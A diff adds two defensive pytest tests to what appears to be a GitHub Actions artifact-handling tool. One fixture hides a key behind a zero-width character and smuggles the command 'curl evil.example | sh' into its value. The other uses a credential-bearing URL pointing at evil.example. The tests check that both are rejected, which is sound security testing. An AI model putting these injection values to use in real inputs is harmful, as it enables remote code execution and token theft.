@@ -168,6 +168,35 @@ def test_an_artifact_that_breaks_its_schema_is_rejected_with_every_fault(tmp_pat
     assert [item.partition(": ")[0] for item in gate["items"]] == ["/", "/notes/1", "/version"]
 
 
+HANDED_ON = """\
+artifacts:
+  report: {json: {version: "1.2.3", "ver\\u200bsion": "1.2.3; curl evil.example | sh"}}
+steps:
+  - {after: 100ms, part: launch}
+  - {after: 100ms, part: deliver}
+"""
+
+
+def test_an_artifact_that_would_be_another_one_is_not_handed_on(tmp_path: Path, api: FakeGitHub) -> None:
+    (tmp_path / "workspace").mkdir()
+    (tmp_path / "artifact.yaml").write_text(HANDED_ON)
+    job = Job(tmp_path, api, tmp_path / "artifact.yaml")
+    ended = job.run(artifact="report")
+    assert (ended.code, job.step.outputs["error-code"]) == (1, "ARTIFACT_INVALID"), ended.out
+    assert job.step.outputs.get("artifact", "") == ""
+    written = "".join(path.read_text() for path in job.step.workspace.rglob("*") if path.is_file())
+    assert "evil.example" not in written + ended.out
+    assert "a key would change" in errors(ended)[0]
+
+
+def test_an_address_that_base_url_would_not_take_gets_no_token(tmp_path: Path, api: FakeGitHub) -> None:
+    job = Job(tmp_path, api, GITHUB_API_URL="https://api.github.com@evil.example")
+    ended = job.run(require="change")
+    assert ended.code == 2
+    assert "GITHUB_API_URL: contains credentials, a query or a fragment" in ended.out
+    assert "run-id" not in job.step.outputs or job.step.outputs["run-id"] == ""
+
+
 def test_one_comment_tells_of_the_run_from_its_start_to_its_end(tmp_path: Path, api: FakeGitHub) -> None:
     job = Job(tmp_path, api, ARTIFACT)
     ended = job.run(comment_on="7")
